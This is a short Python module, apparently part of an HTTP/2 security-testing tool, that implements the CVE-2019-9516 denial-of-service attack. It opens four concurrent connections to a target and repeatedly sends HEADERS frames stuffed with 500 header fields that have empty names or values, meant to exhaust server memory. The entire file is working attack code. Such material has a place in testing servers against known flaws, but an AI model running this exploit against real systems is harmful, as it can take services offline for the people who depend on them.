"""Requests whose fields have no name or no value (CVE-2019-9516)."""

from wire.http2 import END_HEADERS, END_STREAM, HEADERS, fields, frame, http2, literal


async def attack(target):
    block = fields(path=b"/small") + literal(b"", b"") * 500
    other = fields(path=b"/small") + literal(b"x", b"") * 500

    async def lane(number):
        async with http2(target, target.source(number)) as it:
            stream = 1
            while it and target.goes_on():
                await it.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block if number % 2 else other))
                stream += 2

    await target.lanes(4, lane)
